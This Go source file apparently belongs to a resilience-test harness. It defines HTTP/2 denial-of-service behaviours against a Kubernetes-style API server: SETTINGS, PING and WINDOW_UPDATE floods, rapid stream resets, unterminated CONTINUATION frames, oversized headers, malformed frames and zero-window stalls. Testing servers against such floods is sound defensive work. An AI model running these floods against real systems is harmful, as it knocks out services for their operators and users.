package hostile

import (
	"encoding/binary"
	"io"
	"net/http"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// The response is small and comes from the cache.
const oneRow = cachedList + "&fieldSelector=metadata.name%3D" + attackerSpace + "-00000"

// widest is the largest possible window.
const widest = 1<<31 - 1

// http2Floods are frames that cost the server more than the client.
func http2Floods() []behaviour {
	row := func(name string, rate int, do func(*attack, int)) behaviour {
		return behaviour{name: "HTTP2: " + name, clients: 4, most: 8, rate: rate, do: do}
	}
	authority := asAttacker()
	stranger := http.Header{}
	resetOn := func(header http.Header, path string) func(*attack, int) {
		return flood(true, 10, nil, func(f *frames, _ int) bool {
			stream, ok := f.get(path, header)
			return ok && f.frame(func() error { return f.WriteRSTStream(stream, http2.ErrCodeCancel) })
		})
	}
	withStream := func(path string) func(*frames) bool {
		return func(f *frames) bool {
			_, ok := f.request(http.MethodPost, path, asAttacker("Content-Type", "application/json"), false)
			return ok
		}
	}
	return []behaviour{
		row("SETTINGS flood", 100, flood(true, 50, nil, func(f *frames, i int) bool {
			return f.frame(func() error { return f.WriteSettings(window(uint32(i) << 10)) })
		})),
		row("SETTINGS flood, acknowledgements unread", 100, flood(false, 50, nil, func(f *frames, i int) bool {
			return f.frame(func() error { return f.WriteSettings(window(uint32(i) << 10)) })
		})),
		row("SETTINGS flood over 100 watches", 100, flood(true, 50, opening(100, cachedWatch), func(f *frames, i int) bool {
			return f.frame(func() error { return f.WriteSettings(window(uint32(i % 2))) })
		})),
		row("PING flood", 100, flood(true, 50, nil, func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WritePing(false, [8]byte{1}) })
		})),
		row("PING flood, answers unread", 100, flood(false, 50, nil, func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WritePing(false, [8]byte{1}) })
		})),
		row("lists opened and reset at once", 50, resetOn(authority, cachedList)),
		row("watches opened and reset at once", 50, resetOn(authority, cachedWatch)),
		row("forwarded reads opened and reset at once", 20, resetOn(authority, attackedPodsPath+"/"+tunnelled)),
		row("strangers open streams and reset them", 50, resetOn(stranger, oneRow)),
		row("CONTINUATION frames without an end", 100, flood(true, 20, func(f *frames) bool {
			return f.frame(func() error {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.encoded(f.fields(http.MethodGet, oneRow, authority))})
			})
		}, func(f *frames, _ int) bool {
			return f.frame(func() error {
				return f.WriteContinuation(1, false, f.encoded([]hpack.HeaderField{{Name: "x", Value: strings.Repeat("y", 200)}}))
			})
		})),
		row("empty CONTINUATION frames", 100, flood(true, 50, func(f *frames) bool {
			return f.frame(func() error {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.encoded(f.fields(http.MethodGet, oneRow, authority))})
			})
		}, func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WriteContinuation(1, false, nil) })
		})),
		row("empty DATA frames", 100, flood(true, 50, withStream(attackedConfigMaps), func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WriteData(1, false, nil) })
		})),
		row("DATA frames for a stream that has ended", 100, flood(true, 50, opening(1, oneRow), func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WriteData(1, false, []byte("x")) })
		})),
		row("padded DATA frames without data", 100, flood(true, 50, withStream(attackedConfigMaps), func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WriteDataPadded(1, false, nil, make([]byte, 255)) })
		})),
		row("PRIORITY flood", 100, flood(true, 50, nil, func(f *frames, i int) bool {
			f.stream += 2
			return f.frame(func() error { return f.WritePriority(f.stream, http2.PriorityParam{StreamDep: uint32(i), Weight: 1}) })
		})),
		row("WINDOW_UPDATE flood", 100, flood(true, 50, nil, func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WriteWindowUpdate(0, 1) })
		})),
		row("WINDOW_UPDATE flood, a byte of a watch for each", 100, flood(true, 50, opening(1, cachedWatch), func(f *frames, _ int) bool {
			return f.frame(func() error { return f.WriteWindowUpdate(1, 1) })
		})),
		row("windows of more than 2 GiB", 100, flood(true, 1, opening(1, cachedWatch), func(f *frames, _ int) bool {
			i := f.a.next.Add(1)
			return f.frame(func() error { return f.WriteWindowUpdate(uint32(i%2), widest) }) && f.frame(func() error {
				if i%3 == 0 {
					return f.WriteSettings(window(widest))
				}
				return f.WriteWindowUpdate(uint32(i%2), widest)
			})
		})),
		row("a header of 3 KiB by reference, 5,000 times", 20, flood(true, 1, nil, func(f *frames, _ int) bool {
			h := asAttacker()
			long := strings.Repeat("x", 3<<10)
			for range 5000 {
				h.Add("x-long", long) // a byte for each field after the first
			}
			_, ok := f.get(oneRow, h)
			return ok
		})),
		row("headers of 100 KiB", 50, flood(true, 1, nil, func(f *frames, _ int) bool {
			h := asAttacker()
			for i := range 25 {
				h.Add("x-"+made(int64(i)), strings.Repeat("~", 4<<10))
			}
			_, ok := f.get(oneRow, h)
			return ok
		})),
		row("table sizes that change all the time", 50, flood(true, 1, nil, func(f *frames, i int) bool {
			f.encoder.SetMaxDynamicTableSize(uint32(i%2) << 12)
			_, ok := f.get(oneRow, asAttacker("x-"+made(f.a.next.Add(1)), strings.Repeat("y", 1<<10)))
			return ok
		})),
		row("frames that are none", 200, flood(true, 1, nil, invalid)),
		row("goes on after GOAWAY", 100, flood(true, 10, nil, func(f *frames, _ int) bool {
			_, ok := f.get(oneRow, bearer("none")) // a 401 ends the connection
			return ok
		})),
		row("more streams than were granted", 20, flood(true, 100, nil, func(f *frames, _ int) bool {
			_, ok := f.get(cachedWatch+"&resourceVersion=0&labelSelector=none", asAttacker())
			return ok
		})),
	}
}

// opening opens streams without a window, and does nothing with them.
func opening(n int, path string) func(*frames) bool {
	return func(f *frames) bool {
		ok := f.frame(func() error { return f.WriteSettings(window(0)) })
		for range n {
			if ok {
				_, ok = f.get(path, asAttacker())
			}
		}
		return ok
	}
}

// invalid writes frames that violate the protocol, one kind after another.
func invalid(f *frames, _ int) bool {
	i := f.a.next.Add(1)
	return f.frame(func() error {
		switch i % 8 {
		case 0:
			return f.WriteData(0, false, []byte("x"))
		case 1:
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2, BlockFragment: []byte{0x82}, EndHeaders: true})
		case 2:
			return f.WriteRawFrame(http2.FrameSettings, 0, 0, []byte("odd"))
		case 3:
			return f.WriteWindowUpdate(0, 1<<31-1)
		case 4:
			return f.WriteRawFrame(http2.FrameType(0xbe), 0xff, 1<<31-1, make([]byte, 100))
		case 5: // a frame that announces 16 MiB
			_, err := f.conn.Write(binary.BigEndian.AppendUint32([]byte{0xff, 0xff, 0xff, 0, 0}, 1))
			return err
		case 6:
			return f.WritePushPromise(http2.PushPromiseParam{StreamID: 1, PromiseID: 2, BlockFragment: []byte{0x82}, EndHeaders: true})
		}
		_, err := io.WriteString(f.conn, "GET / HTTP/1.1\r\n\r\n")
		return err
	})
}

// http2Windows are clients that let the server send little or nothing.
func http2Windows() []behaviour {
	row := func(name string, clients, most, rate int, do func(*attack, int)) behaviour {
		return behaviour{name: "HTTP2: " + name, clients: clients, most: most, rate: rate, do: do, lingers: true}
	}
	zero := []http2.Setting{window(0)}
	opens := func(path string, header http.Header) func(*frames, int) bool {
		return func(f *frames, _ int) bool { _, ok := f.get(path, header); return ok }
	}
	const perConnection = 200
	return []behaviour{
		row("window 0, small answers", 4, 20, 1000, streams(perConnection, zero, opens(oneRow, asAttacker()))),
		row("window 0, refusals of strangers", 4, 20, 1000, streams(perConnection, zero, opens(oneRow, http.Header{}))),
		row("window 0, lists", 4, 20, 500, streams(perConnection, zero, opens(cachedList, asAttacker()))),
		row("window 0, forwarded reads", 4, 20, 300, streams(perConnection, zero, opens(attackedPodsPath+"/"+tunnelled, asAttacker()))),
		row("window 0, watches with state", 4, 20, 500, streams(perConnection, zero, opens(cachedWatch, asAttacker()))),
		row("window of one byte at a time, lists", 4, 20, 200, trickles),
		row("bodies that never come", 4, 20, 500, streams(perConnection, nil, func(f *frames, _ int) bool {
			_, ok := f.request(http.MethodPost, attackedConfigMaps, asAttacker("Content-Type", "application/json"), false)
			return ok
		})),
		row("bodies of a byte that go on", 4, 20, 500, streams(perConnection, nil, func(f *frames, _ int) bool {
			stream, ok := f.request(http.MethodPost, attackedConfigMaps, asAttacker("Content-Type", "application/json"), false)
			return ok && f.frame(func() error { return f.WriteData(stream, false, []byte(" ")) })
		})),
		{
			name: "HTTP2: events of 30 KB for 800 watches that nobody reads", clients: 4, most: 10, rate: 1000, lingers: true,
			do:     streams(perConnection, zero, opens(attackedConfigMaps+"?watch=true&timeoutSeconds=600&resourceVersion=0&fieldSelector=metadata.name%3Dlarge-0", asAttacker())),
			beside: writeLarge,
		},
		{name: "HTTP2: 1,000 lists that nobody reads", clients: 1, most: 8, rate: 2000, least: 1000, lingers: true, small: true, do: unreadStreams(cachedList)},
		{name: "HTTP2: 1,000 watches that nobody reads", clients: 1, most: 8, rate: 2000, least: 1000, small: true, do: unreadStreams(cachedWatch)},
	}
}

// trickles requests some lists and gives each of them one byte of window at a time.
func trickles(a *attack, _ int) {
	const lists = 20
	f, err := a.frames(true, window(0))
	if err != nil {
		return
	}
	for range lists {
		if _, ok := f.get(cachedList, asAttacker()); !ok {
			return
		}
	}
	for i := 0; a.turn(); i++ {
		if !f.frame(func() error { return f.WriteWindowUpdate(uint32(1+2*(i%lists)), 1) }) {
			return
		}
	}
}

// unreadStreams opens 1,000 streams with the widest windows, and reads nothing.
func unreadStreams(path string) func(*attack, int) {
	return func(a *attack, _ int) {
		f, err := a.frames(false, window(widest))
		if err != nil || !f.frame(func() error { return f.WriteWindowUpdate(0, widest-1<<16+1) }) {
			return
		}
		for range 1000 {
			if !a.turn() {
				return
			}
			if _, ok := f.get(path, asAttacker()); !ok {
				break
			}
		}
		a.stay()
	}
}
